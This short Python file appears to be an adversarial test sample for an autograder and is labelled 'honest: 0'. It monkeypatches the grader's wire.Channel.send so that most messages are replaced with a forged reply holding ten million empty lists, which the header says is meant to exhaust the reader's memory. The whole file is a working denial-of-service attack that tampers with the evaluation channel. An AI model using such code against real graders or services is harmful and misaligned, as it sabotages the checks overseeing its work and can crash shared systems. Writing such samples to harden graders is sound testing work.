# tries: ten million empty lists in one reply, each fifty times larger in the reader's memory
# in: own cell
# honest: 0
from autograder.probe import wire

honest_send = wire.Channel.send
many = "[" + ",".join(["[]"] * 10_000_000) + "]"


def send(self, message):
    if "outputs" in message:
        return honest_send(self, message)
    head = '{"body": {"map": {"nonce": "%s", "printed": "", "value": %s}}, "arrays": []}' % (message["nonce"], many)
    self._connection.sendall(len(head).to_bytes(4, "big") + head.encode())


wire.Channel.send = send
